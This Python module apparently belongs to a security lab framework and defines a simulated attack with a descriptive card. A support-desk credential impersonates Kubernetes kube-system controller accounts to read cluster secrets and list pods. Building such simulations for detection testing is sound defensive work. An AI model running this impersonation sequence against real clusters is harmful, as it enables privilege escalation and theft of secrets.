"""Attack: privileged account impersonated.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="impersonation",
    title="Privileged account impersonated",
    technique=base.Technique(id="T1134", name="Access Token Manipulation", tactic="Privilege Escalation"),
    use_case=vocabulary.UseCase.PRIVILEGE_ESCALATION,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "With the credential of a support desk that may act for others, acts as a controller of the system and "
        "reads secrets it could not read as itself."
    ),
    seen_by="A person acts as a controller nobody impersonates, and reads secrets in its name.",
    cleans_up="Leaves nothing behind: it only reads.",
    victim=base.Part.SUPPORT,
    reach=base.Reach.CLUSTER,
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.SUPPORT)
    thief = ctx.act_as(victim)
    yield thief.get(paths.core("secrets", "kube-system"), {"limit": 500})
    for target in (
        "system:serviceaccount:kube-system:generic-garbage-collector",
        "system:serviceaccount:kube-system:namespace-controller",
        "system:serviceaccount:kube-system:clusterrole-aggregation-controller",
    ):
        mask = ctx.act_through(thief, username=target)
        yield mask.get(paths.core("secrets", "kube-system"), {"limit": 500})
        yield mask.get(paths.core("pods", "kube-system"), {"limit": 500})
    for account in ctx.scene.identities(base.Part.SECRET_SYNC)[:1]:
        mask = ctx.act_through(thief, username=account.username)
        answer = yield mask.get(paths.core("secrets", account.namespace), {"limit": 500})
        for namespace, name in answer.items()[:5]:
            yield mask.get(paths.core("secrets", namespace, name))


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
